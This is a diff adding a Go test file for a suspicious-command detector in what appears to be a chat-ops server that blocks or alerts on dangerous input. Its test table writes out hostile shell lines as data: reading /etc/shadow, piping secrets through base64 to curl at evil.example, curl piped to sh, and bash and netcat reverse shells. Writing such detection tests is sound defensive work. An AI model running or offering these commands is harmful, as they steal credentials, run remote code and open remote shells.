@@ -0,0 +1,77 @@
+package main
+
+import (
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func TestDetectSuspicious(t *testing.T) {
+	tests := []struct {
+		name     string
+		command  string
+		expected string
+	}{
+		{"shadow", "cat /etc/shadow", "shadow file access"},
+		{"base64 exfiltration", "cat secrets | base64 | curl -d @- https://evil.example", "base64 piped to network"},
+		{"curl to shell", "curl -s https://evil.example/x | sh", "download piped to shell"},
+		{"bash reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell"},
+		{"netcat reverse shell", "nc 10.0.0.1 4444 -e /bin/sh", "reverse shell"},
+		{"honeytoken", "aws s3 ls --profile AKIAHONEYHONEYHONEY1", "honeytoken"},
+		{"benign", "df -h", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			hits := detectSuspicious(tt.command, []string{"AKIAHONEYHONEYHONEY1"})
+			got := strings.Join(hits, ", ")
+			if tt.expected == "" && got != "" {
+				t.Errorf("Expected no hits, got %q", got)
+			}
+			if !strings.Contains(got, tt.expected) {
+				t.Errorf("Expected hit %q, got %q", tt.expected, got)
+			}
+		})
+	}
+}
+
+func TestHandleCommand_BlocksSuspiciousCommand(t *testing.T) {
+	ts, alerts := responseURLRecorder(t)
+	s := newServer(config{SuspiciousAction: suspiciousBlock, SecurityWebhookURL: ts.URL})
+
+	data := url.Values{}
+	data.Set("text", "$ cat /etc/shadow")
+	data.Set("user_id", "U1")
+
+	response := postCommand(t, s, data)
+
+	if response["response_type"] != "ephemeral" {
+		t.Errorf("Expected ephemeral response, got %q", response["response_type"])
+	}
+	if !strings.Contains(response["text"], "blocked") {
+		t.Errorf("Expected blocked response, got %q", response["text"])
+	}
+	if len(*alerts) != 1 {
+		t.Fatalf("Expected 1 security alert, got %d", len(*alerts))
+	}
+	if !strings.Contains((*alerts)[0]["text"], "U1") {
+		t.Errorf("Expected alert to include the user, got %q", (*alerts)[0]["text"])
+	}
+}
+
+func TestHandleCommand_AlertsSuspiciousCommand(t *testing.T) {
+	ts, alerts := responseURLRecorder(t)
+	s := newServer(config{SuspiciousAction: suspiciousAlert, SecurityWebhookURL: ts.URL})
+
+	data := url.Values{}
+	data.Set("text", "$ echo /etc/shadow")
+
+	response := postCommand(t, s, data)
+
+	if !strings.Contains(response["text"], "_success") {
+		t.Errorf("Expected command to run, got %q", response["text"])
+	}
+	if len(*alerts) != 1 {
+		t.Fatalf("Expected 1 security alert, got %d", len(*alerts))
+	}
+}